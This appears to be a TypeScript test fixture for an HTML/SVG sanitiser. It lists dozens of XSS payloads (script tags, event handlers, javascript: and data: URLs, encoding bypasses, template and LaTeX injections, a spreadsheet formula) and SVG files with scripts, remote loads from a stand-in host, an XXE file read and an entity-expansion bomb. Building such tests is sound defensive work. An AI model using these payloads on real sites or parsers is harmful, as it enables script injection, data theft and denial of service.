/** The effect of a planted script, which visitors look for. */
export const plant = 'window.__planted=1';
/** A host that no page may contact. It does not exist. */
export const foreign = 'evil.example';

const script = `<script>${plant}</script>`;
const image = `<img src=x onerror=${plant}>`;

/** Text that becomes a script or a request if it is not escaped. */
export const payloads: string[] = [
  script,
  `"><script>${plant}</script>`,
  `'>${image}`,
  image,
  `<svg onload=${plant}>`,
  `<svg><script>${plant}</script></svg>`,
  `<svg><animate onbegin=${plant} attributeName=x dur=1s>`,
  `</title>${script}`,
  `</script>${script}`,
  `</style>${script}`,
  `</textarea>${script}`,
  `</template>${script}`,
  `--><script>${plant}</script><!--`,
  `]]>${script}`,
  `<![CDATA[${script}]]>`,
  `<noscript><p title="</noscript>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style>${image}`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<iframe srcdoc="&lt;script&gt;parent.__planted=1&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.__planted=1"></iframe>`,
  `<object data="data:text/html,${script}"></object>`,
  `<embed src="//${foreign}/x.swf">`,
  `<script src="https://${foreign}/x.js"></script>`,
  `<script type=module>import "https://${foreign}/x.js"</script>`,
  `<link rel=stylesheet href="https://${foreign}/x.css">`,
  `<style>@import "https://${foreign}/x.css";*{background:url(//${foreign}/b)}</style>`,
  `<p style="background:url(https://${foreign}/s)">`,
  `<img src="https://${foreign}/pixel.png">`,
  `![x](https://${foreign}/pixel.png)`,
  `<base href="https://${foreign}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${foreign}/">`,
  `<form action="https://${foreign}/"><button autofocus onfocus=${plant}>`,
  `<a href="javascript:${plant}">x</a>`,
  `[x](javascript:${plant})`,
  `<javascript:${plant}>`,
  `<details open ontoggle=${plant}>`,
  `<input autofocus onfocus=${plant}>`,
  `<video><source onerror=${plant}>`,
  `<body onload=${plant}>`,
  `<x contenteditable onblur=${plant}>`,
  `" onfocus="${plant}" autofocus x="`,
  `' onmouseover='${plant}`,
  `\` onerror=${plant} \``,
  `javascript:${plant}`,
  ` javascript:${plant}`,
  `JaVaScRiPt:${plant}`,
  `java\tscript:${plant}`,
  `\u0001javascript:${plant}`,
  `javascript&colon;${plant}`,
  `jav&#x09;ascript:${plant}`,
  `data:text/html,${script}`,
  `data:text/html;base64,${Buffer.from(script).toString('base64')}`,
  `vbscript:${plant}`,
  `blob:https://${foreign}/x`,
  `//${foreign}/x`,
  `https://${foreign}/"onmouseover="${plant}`,
  `https://example.org/${script}`,
  `https://example.org/#"><img src=x onerror=${plant}>`,
  `&lt;script&gt;${plant}&lt;/script&gt;`,
  `&#60;img src=x onerror=${plant}&#62;`,
  `&amp;lt;script&amp;gt;${plant}`,
  `\\u003cscript\\u003e${plant}\\u003c/script\\u003e`,
  `%3Cscript%3E${plant}%3C/script%3E`,
  `\uff1cscript\uff1e${plant}`,
  `{${plant}}`,
  `\${${plant}}`,
  `{{constructor.constructor('${plant}')()}}`,
  `<%= ${plant} %>`,
  `'-${plant}-'`,
  `";${plant};"`,
  `\\";${plant};//`,
  `\u2028${plant}//`,
  `*/${plant}/*`,
  `<!--${script}`,
  `<scr<script>ipt>${plant}</script>`,
  `<SCRIPT\n>${plant}</SCRIPT\t>`,
  `<script/x>${plant}</script>`,
  `<p is="x-y" onclick=${plant}>`,
  `<div popover id=x></div><button popovertarget=x onbeforetoggle=${plant}>`,
  `export const x = (globalThis.${plant.slice(7)}, 1)`,
  `import x from "data:text/javascript,${plant}"`,
  `$\\href{javascript:${plant}}{x}$`,
  `$\\htmlData{x="onload=${plant}"}{x}$`,
  `$\\htmlStyle{background:url(//${foreign}/t)}{x}$`,
  `$\\includegraphics{https://${foreign}/g.png}$`,
  `$\\text{${script}}$`,
  `=HYPERLINK("https://${foreign}/","x")`,
];

const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
  `width="40" height="30" viewBox="0 0 40 30" ${attributes}>${inside}<rect width="40" height="30"/></svg>`;

const encoded = Buffer.from(svg(script)).toString('base64');

/** Pictures that do more when they are opened directly. */
export const drawings: Record<string, string> = {
  script: svg(script),
  'script in CDATA': svg(`<script><![CDATA[${plant}]]></script>`),
  'script of a type': svg(`<script type="text/ecmascript">${plant}</script>`),
  'script from elsewhere': svg(`<script href="https://${foreign}/x.js"/>`),
  'script by xlink': svg(`<script xlink:href="data:text/javascript,${plant}"/>`),
  'script of another prefix': svg(
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${plant}</s:script>`,
  ),
  'script of XHTML': svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${plant}</h:script>`),
  'onload at its root': svg('', `onload="${plant}"`),
  'onload in capitals': svg('', `ONLOAD="${plant}" OnLoad="${plant}"`),
  'onerror of a picture': svg(`<image href="x" onerror="${plant}"/>`),
  'onbegin of an animation': svg(`<animate onbegin="${plant}" attributeName="x" dur="1s"/>`),
  'set of a handler': svg(`<rect id="r"><set attributeName="onclick" to="${plant}"/></rect>`),
  'link of script': svg(`<a href="javascript:${plant}"><text y="20">x</text></a>`),
  'link by animation': svg(
    `<a><animate attributeName="href" values="javascript:${plant}"/><text y="20">x</text></a>`,
  ),
  'use of data': svg(`<use href="data:image/svg+xml;base64,${encoded}#x"/>`),
  'use from elsewhere': svg(`<use href="https://${foreign}/x.svg#x"/>`),
  'picture from elsewhere': svg(`<image href="https://${foreign}/p.png" width="9" height="9"/>`),
  'picture of data': svg(
    `<image href="data:image/svg+xml;base64,${encoded}" width="9" height="9"/>`,
  ),
  'style from elsewhere': svg(`<style>@import url(https://${foreign}/x.css);</style>`),
  'style with an address': svg(`<style>rect{fill:url(https://${foreign}/f#x)}</style>`),
  'attribute with an address': svg(
    `<rect style="filter:url(https://${foreign}/f#x)" width="9" height="9"/>`,
  ),
  'font from elsewhere': svg(
    `<style>@font-face{font-family:x;src:url(https://${foreign}/f.woff2)}text{font-family:x}</style><text y="20">x</text>`,
  ),
  'foreign object': svg(
    `<foreignObject width="40" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:parent.__planted=1"/><img src="x" onerror="${plant}"/></body></foreignObject>`,
  ),
  'frame within': svg(
    `<foreignObject width="40" height="30"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://${foreign}/"/></foreignObject>`,
  ),
  handler: svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${plant}</handler>`,
  ),
  'sheet by instruction': `<?xml-stylesheet href="https://${foreign}/x.css"?>${svg('')}`,
  'transform by instruction': `<?xml-stylesheet type="text/xsl" href="https://${foreign}/x.xsl"?>${svg('')}`,
  'entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>${svg('<text y="20">&x;</text>')}`,
  'entity of script': `<!DOCTYPE svg [<!ENTITY x "&#60;script>${plant}&#60;/script>">]>${svg('&x;')}`,
  'entities without end': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(99)}">${'bcdefgh'
    .split('')
    .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefg'[index] ?? ''};`.repeat(9)}">`)
    .join('')}]>${svg('<text y="20">&h;</text>')}`,
  'HTML by its name': `<!DOCTYPE html><html><body>${script}</body></html>`,
  'in UTF-16': `\ufeff${svg(script)}`,
};
